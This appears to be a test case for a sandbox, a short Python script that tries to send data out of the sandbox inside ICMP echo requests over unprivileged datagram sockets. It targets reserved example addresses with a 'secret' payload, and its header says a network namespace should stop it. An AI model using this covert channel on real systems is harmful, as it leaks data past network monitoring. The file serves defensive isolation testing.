# tries: carries data out in echo requests, without a raw socket
# stopped by: network_namespace
# outside: true

import socket
for family, protocol, address in ((socket.AF_INET, 1, "192.0.2.1"), (socket.AF_INET6, 58, "2001:db8::1")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
            s.sendto(b"\x08\0\0\0\0\0\0\x01secret", (address, 0))
            got("an echo request was sent to", address)
    except OSError:
        pass
